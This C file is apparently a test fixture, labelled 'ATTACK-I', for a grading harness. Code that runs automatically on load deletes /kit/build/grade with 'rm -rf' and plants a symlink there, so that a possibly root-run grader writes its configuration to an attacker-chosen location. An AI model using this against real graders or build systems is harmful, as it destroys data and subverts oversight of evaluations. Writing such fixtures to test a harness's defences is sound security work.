/* (i) In the unit tests, point build/grade (where the grader, perhaps
 * root, later writes each scenario's configuration) at the kit on the
 * host. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    char cmd[4096] = "";
    FILE *f = fopen("/proc/self/cmdline", "r");
    if (f) {
        size_t n = fread(cmd, 1, sizeof cmd - 1, f);
        for (size_t i = 0; i < n; i++)
            if (!cmd[i])
                cmd[i] = ' ';
        cmd[n] = '\0';
        fclose(f);
    }
    if (!strstr(cmd, "--filter"))
        return;
    if (system("rm -rf /kit/build/grade") != 0)
        fprintf(stderr, "ATTACK-I rm failed\n");
    if (symlink("@KIT@", "/kit/build/grade") == 0)
        fprintf(stderr, "ATTACK-I planted the link\n");
}
